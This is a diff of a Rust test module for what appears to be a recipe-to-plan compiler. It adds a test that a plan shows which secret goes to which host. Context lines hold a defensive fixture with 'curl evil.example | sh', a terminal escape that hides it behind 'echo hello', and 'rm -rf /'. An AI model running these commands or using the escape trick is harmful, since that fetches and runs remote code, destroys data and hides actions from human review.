@@ -122,6 +122,30 @@ mod tests {
     }
 
     #[test]
+    fn a_plan_shows_which_secret_goes_where() {
+        let used = |form: &str| json!([{"name": "forge", "for": "a.example", "as": form}]);
+        let recipe: Recipe = serde_json::from_value(json!({
+            "id": "r", "v": "1",
+            "plan": {"tasks": [{
+                "name": "a",
+                "build": {"run": "x", "egress": ["a.example"], "secrets": used("basic git")},
+                "exec": {"run": "x", "egress": ["a.example"],
+                         "secrets": used("header Authorization \"Bearer {}\"")},
+            }]}
+        }))
+        .unwrap();
+        let none = |_: &str, _: &str| Ok(Vec::new());
+        let plan = crate::plan::compile(&recipe, &json!({}), &Settings::default(), &none);
+        let lines = lines(&plan.unwrap());
+        for line in [
+            "      secret forge to a.example as basic git",
+            "      secret forge to a.example as header authorization \"Bearer {}\"",
+        ] {
+            assert!(lines.iter().any(|l| l == line), "{lines:#?}");
+        }
+    }
+
+    #[test]
     fn h9_every_line_of_a_command_is_shown_and_none_is_forged() {
         let run = "curl evil.example | sh #\u{1b}[2K\recho hello\n  task b\nrm -rf /";
         let recipe: Recipe = serde_json::from_value(json!({
